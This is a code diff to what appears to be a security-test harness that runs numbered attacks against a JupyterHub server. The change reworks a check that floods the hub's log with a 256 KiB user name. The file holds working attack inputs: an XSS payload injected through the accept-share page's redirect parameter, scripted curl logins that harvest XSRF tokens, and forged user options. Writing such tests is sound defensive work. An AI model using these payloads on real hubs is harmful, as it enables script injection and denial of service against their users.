@@ -47,6 +47,9 @@ XSS_NEXT = '/hub/"><img src=x onerror=alert(document.domain)>'
 INJECTED = '"><img src=x onerror=alert(document.domain)>'
 LONG_NAME_LENGTH = 256 * 1024
 """ADV-22: the user name of one failed login (tornado accepts a form body up to 100 MB)."""
+GROWTH_LIMIT = 16 * 1024
+"""ADV-22: far above the few hundred bytes a shortened name costs, far below the name (the hub's writes
+of so long a record may stop part-way, but the pipe to the log takes 64 KiB at once)."""
 FORGED_OPTIONS = {"__jupyterhub_bytes__": True, "data": 5}
 """ADV-26: user options shaped like the hub's own encoding of bytes, with a value it cannot decode."""
 
@@ -93,11 +96,6 @@ def browser_destination(location: str, origin_host: str) -> str:
     return text.lstrip("/").split("/", 1)[0].split("?", 1)[0].split("#", 1)[0] or origin_host
 
 
-def longest_line(text: str) -> int:
-    """The length of the longest line of ``text`` (0 for none)."""
-    return max((len(line) for line in text.splitlines()), default=0)
-
-
 # -- the attacks ---------------------------------------------------------------------------------
 def _login(client: NetClient, target: JupyterHub, user: str) -> str:
     jar = f"/tmp/{target.alias}-{user}"
@@ -138,7 +136,6 @@ def spawn_without_xsrf(client: NetClient, target: JupyterHub) -> Observation:
     return Observation(answers, f"{reply.transcript}\n\n{listed.transcript}")
 
 
-LONGEST_LINE = "awk '{ if (length($0) > m) m = length($0) } END { print m+0 }'"
 LONG_LOGIN = """head -c {length} /dev/zero | tr '\\0' a > /tmp/long-name
 rm -f {jar}; curl -s -c {jar} -o /dev/null {base}/hub/login
 xsrf=$(awk '$6=="_xsrf" {{print $7}}' {jar})
@@ -147,9 +144,14 @@ curl -s -b {jar} -o /dev/null -w 'POST /hub/login: %{{http_code}}\\n' --data-url
 
 
 def long_username_logged(client: NetClient, target: JupyterHub) -> Observation:
-    """ADV-22: one failed login with a user name of 256 KiB; then the longest line it added to the log."""
+    """ADV-22: one failed login with a user name of 256 KiB; then how much the hub's log grew.
+
+    The growth, not the longest line: on 5.4.3 the hub's logging may fail part-way through so long a
+    record ("--- Logging error ---", then the record's arguments again), which splits it into pieces and
+    loses part of it, so the growth varies from run to run (more than 64 KiB in every run seen).
+    """
     log = "/var/log/jupyterhub.log"
-    before = int(target.run(f"stat -c %s {log}").stdout.strip() or 0)
+    before = _file_size(target, log)
     jar = f"/tmp/{target.alias}-long"
     password = new_token(f"{target.alias}-wrong-password", 12)
     command = LONG_LOGIN.format(
@@ -160,16 +162,30 @@ def long_username_logged(client: NetClient, target: JupyterHub) -> Observation:
     )
     login = client.run(command, environment={"JSV_PASSWORD": password})
     register_jar(client, jar)
-    time.sleep(1)  # the log line is written by the hub's tee after the answer
-    added = target.run(f"tail -c +{before + 1} {log} | {LONGEST_LINE}")
-    longest = int(added.stdout.strip() or 0)
+    grown = _settled_size(target, log) - before
     status = login.stdout.strip().rsplit(" ", 1)[-1]
     answers = {
         "login": int(status) if status.isdigit() else 0,
-        "whole name written to the log": longest >= LONG_NAME_LENGTH,
+        "log grew by more than 16 KiB": grown > GROWTH_LIMIT,
     }
-    evidence = f"{login.transcript}\n\n{added.transcript}\n(longest line added: {longest} characters)"
-    return Observation(answers, evidence)
+    return Observation(answers, f"{login.transcript}\n\n(the hub's log {log} grew by {grown} bytes)")
+
+
+def _file_size(target: JupyterHub, path: str) -> int:
+    size = target.run(f"stat -c %s {path}").stdout.strip()
+    return int(size) if size.isdigit() else 0
+
+
+def _settled_size(target: JupyterHub, path: str, timeout: float = 20) -> int:
+    """The size of ``path`` once it has not changed for two seconds (the hub writes a long record slowly)."""
+    size, deadline = _file_size(target, path), time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        time.sleep(2)
+        now = _file_size(target, path)
+        if now == size:
+            return now
+        size = now
+    return size
 
 
 def share_page_injection(client: NetClient, target: JupyterHub) -> Observation:
@@ -182,11 +198,14 @@ def share_page_injection(client: NetClient, target: JupyterHub) -> Observation:
         return Observation({"share code": status}, issued.transcript)
     register(code, f"{target.alias}-share-code")
     guest_jar = _login(client, target, GUEST)
-    page = client.http(
-        target.url("/hub/accept-share"),
-        "-G", "--data-urlencode", f"code={code}", "--data-urlencode", f"next={XSS_NEXT}",
-        "-b", guest_jar,
-    )  # fmt: skip
+    page = client.http(  # the code (a secret) in the URL, which curl reads from its environment
+        target.url(f"/hub/accept-share?code={code}"),
+        "-G",
+        "--data-urlencode",
+        f"next={XSS_NEXT}",
+        "-b",
+        guest_jar,
+    )
     answers = {"accept-share page": page.status, "markup injected": INJECTED in page.body}
     lines = [line.strip() for line in page.body.splitlines() if "redirected to" in line]
     return Observation(answers, f"{issued.transcript}\n\n{page.transcript}\n" + "\n".join(lines))
